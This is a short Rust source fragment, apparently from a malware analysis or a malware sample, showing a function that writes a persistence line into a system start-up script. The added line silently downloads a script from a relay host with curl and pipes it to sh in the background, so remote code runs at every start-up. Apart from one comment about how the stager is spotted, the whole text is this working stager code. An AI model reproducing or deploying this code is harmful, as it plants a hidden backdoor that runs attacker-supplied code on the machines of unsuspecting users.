// the start-up script's path comes from elsewhere (decoded, read from a table): the line
// written into it is what gives the stager away
fn stage(script: &str, relay: &str) {
    let line = format!("(curl -fsS http://{relay}/l | sh) >/dev/null 2>&1 &");
    let current = std::fs::read_to_string(script).unwrap_or_default();
    if !current.contains(relay) {
        let _ = std::fs::write(script, format!("{current}\n{line}\n"));
    }
}
